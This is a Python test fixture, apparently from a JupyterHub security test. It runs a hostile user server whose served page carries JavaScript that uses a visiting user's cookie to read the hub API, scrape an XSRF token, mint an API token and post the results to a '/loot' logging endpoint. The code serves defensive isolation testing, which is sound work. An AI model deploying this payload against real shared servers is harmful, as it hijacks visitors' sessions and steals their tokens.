"""A user's server that attacks whoever visits it (TestHostileAppVisitor).

Run as the user's job in place of jupyterhub-singleuser:
    visitor_app.py PORT LOGFILE
Every GET gets a page whose script, running in the visitor's browser at
/user/<owner>/ (the hub's own origin), tries to act at the hub as the
visitor: read the hub's API with the visitor's cookie, read a hub page
for its XSRF token, create an API token with it, and send what it got
back here. POSTs to .../loot are appended to
LOGFILE (one JSON line each, mode 0600) so the test can see what the
owner's code would have.
"""
import http.server
import json
import os
import sys

port, logfile = int(sys.argv[1]), sys.argv[2]

PAGE = b"""<!doctype html><html><head><meta name="referrer" content="no-referrer">
<title>hostile</title></head><body>hostile app
<script>
(async () => {
  const out = {};
  try {
    const u = await fetch('/hub/api/users', {credentials: 'include'});
    out.api_users_status = u.status;
    const r = await fetch('/hub/token', {credentials: 'include', redirect: 'manual'});
    out.page_status = r.status;
    const html = await r.text();
    const m = html.match(/name="_xsrf" value="([^"]+)"/);
    out.xsrf = !!m;
    if (m) {
      const p = await fetch('/hub/token', {method: 'POST', credentials: 'include', redirect: 'manual',
        headers: {'Content-Type': 'application/x-www-form-urlencoded'},
        body: new URLSearchParams({_xsrf: m[1], note: 'taken by the app', expires_in: '3600'})});
      out.post_status = p.status;
      const t = (await p.text()).match(/id="new-token"[^>]*value="([^"]+)"/);
      if (t) out.token = t[1];
    }
  } catch (e) { out.error = String(e); }
  await fetch(location.pathname.replace(/[^/]*$/, '') + 'loot', {method: 'POST', body: JSON.stringify(out)});
  document.title = 'done';
})();
</script></body></html>"""


class App(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path.split("?")[0].endswith("/loot"):
            fd = os.open(logfile, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
            with os.fdopen(fd, "a") as f:
                f.write(body.decode("utf-8", "replace").replace("\n", " ") + "\n")
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", port), App).serve_forever()
